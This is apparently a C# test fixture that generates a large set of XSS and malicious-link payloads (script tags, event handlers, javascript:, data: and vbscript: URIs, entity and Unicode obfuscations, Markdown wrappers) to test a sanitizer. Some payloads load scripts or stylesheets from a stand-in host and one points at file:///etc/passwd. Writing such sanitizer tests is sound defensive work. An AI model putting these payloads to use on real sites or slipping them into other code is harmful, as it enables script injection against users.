namespace OgdPlans.Tests;

/// <summary>
/// Texts that would run a script, load something or lead somewhere bad if anything took them for HTML or followed them as they are: made by a small grammar of elements, handlers, addresses,
/// encodings and forms of Markdown, always the same ones.
/// </summary>
public static class ScriptPayloads
{
    /// <summary>What runs: a dialog, which a browser reports.</summary>
    public const string Call = "alert(1)";

    /// <summary>Where nothing may ask.</summary>
    public const string Elsewhere = "evil.invalid";

    private static readonly string[] Handlers = ["onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onpointerover", "onbegin", "onstart", "onanimationend", "onbeforeprint"];

    private static readonly string[] Elements =
    [
        "<img src=x {0}>", "<svg {0}>", "<svg><animate {0} attributeName=x dur=1s>", "<body {0}>", "<input autofocus {0}>", "<select autofocus {0}>", "<textarea autofocus {0}>", "<details open {0}>x",
        "<video {0}><source {0}></video>", "<audio src=x {0}>", "<marquee {0}>x</marquee>", "<iframe {0}></iframe>", "<object data=x {0}>", "<embed src=x {0}>", "<a href=x tabindex=1 {0}>x</a>",
        "<math><mtext {0}>x", "<xss contenteditable autofocus {0} style=animation-name:x>", "<table background=x {0}>", "<form {0}><button>x", "</style><img src=x {0}>", "</title><svg {0}>", "--><img src=x {0}>",
        "<noscript><p title=\"</noscript><img src=x {0}>\">", "<template><img src=x {0}>", "<svg><style><img src=x {0}></style>", "\"><img src=x {0}>",
    ];

    private static readonly string[] WithoutHandler =
    [
        $"<script>{Call}</script>", $"<script src=https://{Elsewhere}/x.js></script>", $"<iframe src=javascript:{Call}>", $"<iframe srcdoc='<script>{Call}</script>'>", $"<object data=javascript:{Call}>",
        $"<embed src=\"data:text/html,<script>{Call}</script>\">", $"<link rel=stylesheet href=https://{Elsewhere}/x.css>", $"<style>@import 'https://{Elsewhere}/x.css';</style>",
        $"<meta http-equiv=refresh content='0;url=javascript:{Call}'>", $"<base href=https://{Elsewhere}/>", $"<form action=javascript:{Call}><input type=submit>", $"<button formaction=javascript:{Call}>x",
        $"<a href=javascript:{Call}>x</a>", $"<svg><a xlink:href=javascript:{Call}><text>x", $"<svg><use href=https://{Elsewhere}/x.svg#x>", $"<img srcset=https://{Elsewhere}/x.png>", $"<div style=\"background:url(https://{Elsewhere}/x.png)\">x</div>",
    ];

    private static readonly string[] Addresses =
    [
        $"javascript:{Call}", $"JaVaScRiPt:{Call}", $"java\tscript:{Call}", $"java\nscript:{Call}", $"\u0001javascript:{Call}", $" javascript:{Call}", $"&#106;avascript:{Call}", $"&#x6A;avascript:{Call}", $"&#0000106avascript:{Call}",
        $"javascript&colon;{Call}", $"javascript&#58;{Call}", $"java&Tab;script:{Call}", $"java&NewLine;script:{Call}", $"%6Aavascript:{Call}", "javascript:%61lert(1)", $"javascript://example.org/%0a{Call}", $"javascript\\:{Call}",
        $"data:text/html,<script>{Call}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", $"data:image/svg+xml,<svg onload={Call}>", "DATA:text/html,x", "data&colon;text/html,x", $"vbscript:{Call}", $"livescript:{Call}",
        $"feed:javascript:{Call}", $"view-source:javascript:{Call}", $"jar:javascript:{Call}!/", "blob:https://example.org/x", "filesystem:https://example.org/x", "file:///etc/passwd", "about:blank", $"//{Elsewhere}/x", $"\\\\{Elsewhere}\\x",
        $"/\\{Elsewhere}", $"https:javascript:{Call}", $"ｊavascript:{Call}", $"javascript：{Call}", $"mhtml:https://{Elsewhere}/x", $"ws://{Elsewhere}/", "intent:x#Intent;end", "ms-word:ofe|u|https://example.org/x", "chrome://settings", "x:x",
        $"https://example.org/\"onmouseover=\"{Call}", $"https://example.org/'onmouseover='{Call}", $"https://example.org/&quot;onmouseover=&quot;{Call}", $"https://example.org/`onmouseover=`{Call}", $"https://example.org/x\"><img src=x onerror={Call}>",
    ];

    private static readonly Func<string, string>[] Encodings =
    [
        text => text,
        text => string.Concat(text.Select((unit, at) => at % 2 == 0 ? char.ToUpperInvariant(unit) : unit)),
        text => text.Replace(' ', '/'),
        text => text.Replace(' ', '\n'),
        text => text.Replace(' ', '\t'),
        text => text.Replace(" ", "\u00a0", StringComparison.Ordinal),
        text => text.Replace("<", "&lt;", StringComparison.Ordinal).Replace(">", "&gt;", StringComparison.Ordinal),
        text => text.Replace("<", "&amp;lt;", StringComparison.Ordinal),
        text => text.Replace("<", "&#60;", StringComparison.Ordinal).Replace("(", "&#x28;", StringComparison.Ordinal),
        text => text.Replace("<", "&#x3c", StringComparison.Ordinal),
        text => text.Replace("<", "\\<", StringComparison.Ordinal),
        text => text.Replace("<", "<<", StringComparison.Ordinal),
        text => text.Replace("<", "＜", StringComparison.Ordinal).Replace(">", "＞", StringComparison.Ordinal),
        text => text.Replace("<", "<\u200b", StringComparison.Ordinal),
        text => text.TrimEnd('>'),
        text => $"<![CDATA[{text}]]>",
        text => $"<!--{text}-->",
    ];

    /// <summary>What stands where words can.</summary>
    private static readonly string[] Forms =
    [
        "{0}", "Words {0} and words", "- {0}", "> {0}", "| a |\n|---|\n| {0} |", "`{0}`", "# {0}", "[{0}](https://example.org/)", "[x](https://example.org/ \"{0}\")", "![{0}](https://example.org/p.png)",
        "[x][r]\n\n[r]: https://example.org/ '{0}'", "**{0}**", "~~{0}~~", "    {0}", "```\n{0}\n```", "<{0}>", "1. > - {0}",
    ];

    /// <summary>What stands where addresses can.</summary>
    private static readonly string[] Links =
    [
        "[x]({0})", "[x](<{0}>)", "[x]({0} \"t\")", "![x]({0})", "![x](<{0}>)", "<{0}>", "[x][r]\n\n[r]: {0}", "![x][r]\n\n[r]: <{0}>", "[x]\n\n[x]: {0}", "| [x]({0}) |\n|---|\n| {0} |", "[![x]({0})]({0})", "- [x]({0})", "{0}",
    ];

    /// <summary>All of them, each once.</summary>
    public static IReadOnlyList<string> All { get; } = [.. Markup().Concat(Addresses.SelectMany(address => Links.Select(form => Put(form, address)))).Distinct(StringComparer.Ordinal)];

    /// <summary>Those that can stand in a name, which is a line.</summary>
    public static IReadOnlyList<string> Lines { get; } = [.. All.Where(text => !text.Contains('\n', StringComparison.Ordinal) && !text.Contains('\t', StringComparison.Ordinal))];

    /// <summary>Every element with every second of its handlers in each encoding, and each of those in the next form.</summary>
    private static IEnumerable<string> Markup()
    {
        var form = 0;
        for (var encoding = 0; encoding < Encodings.Length; encoding++)
        {
            for (var element = 0; element < Elements.Length; element++)
                for (var handler = (element + encoding) % 2; handler < Handlers.Length; handler += 2)
                    yield return Put(Forms[form++ % Forms.Length], Encodings[encoding](Put(Elements[element], $"{Handlers[handler]}={Call}")));
            foreach (var text in WithoutHandler) yield return Put(Forms[form++ % Forms.Length], Encodings[encoding](text));
        }
    }

    private static string Put(string into, string text) => into.Replace("{0}", text, StringComparison.Ordinal);
}
